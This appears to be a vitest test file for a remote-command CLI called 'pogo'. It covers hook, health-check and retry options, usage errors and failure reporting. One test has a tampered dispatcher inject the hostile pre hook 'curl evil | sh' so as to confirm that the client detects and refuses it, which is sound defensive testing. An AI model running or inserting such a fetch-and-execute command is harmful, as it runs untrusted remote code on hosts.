/** Options for what happens on a host besides the command. */
import { expect, it } from 'vitest';
import { key, useClient } from './support/client.js';

const client = useClient();
const steps = [
  ...['--pre', 'drain "$POGO_HOST"', '--post', 'undrain', '--health', 'curl -fs localhost/up'],
  ...['--health-retries', '30', '--health-interval', '2', '--retry-unreachable', '5'],
];

async function specOf(...args: string[]) {
  const dispatcher = await client.dispatcherWith();
  const { code, stderr } = await client.pogo.run([
    'run',
    '-d',
    '-h',
    'web1',
    '--identity',
    key,
    ...args,
    'true',
  ]);
  expect(code, stderr).toBe(0);
  return dispatcher.submitted!.spec;
}

async function plan(...args: string[]) {
  const { code, stdout, stderr } = await client.pogo.run(['plan', '-h', 'web1', ...args, 'true']);
  return { code, stdout: stdout.toString('utf8'), stderr };
}

it('are in the sealed spec where they are given, and nowhere else', async () => {
  expect(await specOf(...steps)).toMatchObject({
    pre: 'drain "$POGO_HOST"',
    post: 'undrain',
    health: { command: 'curl -fs localhost/up', retries: 30, intervalMs: 2000 },
    unreachableRetries: 5,
  });
  const without = await specOf('--hooks', '--retry-unreachable', '0');
  for (const member of ['hooks', 'pre', 'post', 'health', 'unreachableRetries'])
    expect(without).not.toHaveProperty(member);
  expect(await specOf('--health', 'true')).toMatchObject({ health: { retries: 12, intervalMs: 5000 } });
});

it.each([
  ['', ['--no-hooks'], { pre: false, post: false }],
  ['', ['--no-prehooks'], { pre: false }],
  ['', ['--no-posthooks'], { post: false }],
  ['', ['--no-hooks', '--prehooks'], { post: false }],
  ['hooks: false\n', [], { pre: false, post: false }],
  ['hooks: false\n', ['--posthooks'], { pre: false }],
  ['hooks: false\nprehooks: true\n', [], { post: false }],
  ['prehooks: false\n', ['--hooks'], undefined],
])('with %j in the configuration, %j passes over %j', async (configuration, args, hooks) => {
  await client.pogo.file('home/.pogoconf', configuration);
  try {
    expect((await specOf(...args)).hooks).toEqual(hooks);
  } finally {
    await client.pogo.file('home/.pogoconf', '');
  }
});

it('are shown by a plan', async () => {
  await client.dispatcherWith();
  const { stdout } = await plan(...steps, '--no-prehooks');
  expect(stdout).toMatch(/^before +drain "\$POGO_HOST"$/m);
  expect(stdout).toMatch(/^after +undrain$/m);
  expect(stdout).toMatch(/^hooks +the hosts' pre hooks are passed over$/m);
  expect(stdout).toMatch(
    /^health +curl -fs localhost\/up\n +until it succeeds, up to 30 times more, 2\.0 s apart$/m,
  );
  expect(stdout).toMatch(/^dialled +again where a host can't be reached, up to 5 times$/m);
  expect((await plan()).stdout).not.toMatch(/^(before|after|hooks|health|dialled) /m);
});

it('are refused where the dispatcher changes what was asked', async () => {
  await client.dispatcherWith({ alterPlan: ({ spec }) => void (spec.pre = 'curl evil | sh') });
  const { code, stdout, stderr } = await plan();
  expect(stderr).toContain('pre: "curl evil | sh" instead of nothing');
  expect({ code, stdout }).toEqual({ code: 1, stdout: '' });
});

it.each([
  [['--hooks', '--no-hooks'], 'contradicting-options: --hooks and --no-hooks contradict each other'],
  [['--prehooks', '--no-prehooks'], '--prehooks and --no-prehooks contradict each other'],
  [['--health-retries', '3'], 'no-health-check: --health-retries says how --health is tried'],
  [['--health-interval', '3'], 'no-health-check: --health-interval says how --health is tried'],
  [['--health', 'true', '--health-retries', '101'], 'is not a whole number from 0 to 100'],
  [['--pre', ''], 'empty-value: --pre: '],
  [['--retry-unreachable', 'x'], '--retry-unreachable: "x" is not a whole number from 0 to 100'],
])('%j is a usage error', async (args, said) => {
  const { code, stderr } = await plan(...args);
  expect(stderr).toContain(said);
  expect(code).toBe(2);
});

it('which step failed is in the summary, with what to do, and in the document', async () => {
  const outcome = {
    state: 'failed',
    reason: 'prehook-failed',
    step: 'prehook',
    hook: '10-drain',
    exitCode: 3,
    message: 'The pre hook 10-drain on web1 exited with status 3, so the command did not begin.',
  } as const;
  await client.dispatcherWith({ host: () => ({ outcome }) });
  const shown = await client.pogo.run(['run', '-h', 'web1', '--identity', key, 'true']);
  expect(shown.code).toBe(5);
  expect(shown.stderr).toContain('failed (prehook-failed): web1');
  expect(shown.stderr).toContain('The pre hook 10-drain on web1 exited with status 3');
  expect(shown.stderr).toContain('--no-prehooks passes hooks over');
  await client.dispatcherWith({ host: () => ({ outcome }) });
  const { stdout } = await client.pogo.run(['run', '--json', '-h', 'web1', '--identity', key, 'true']);
  const document = JSON.parse(stdout.toString('utf8')) as { hosts: { outcome: object }[] };
  expect(document.hosts[0]!.outcome).toMatchObject({ step: 'prehook', hook: '10-drain' });
});
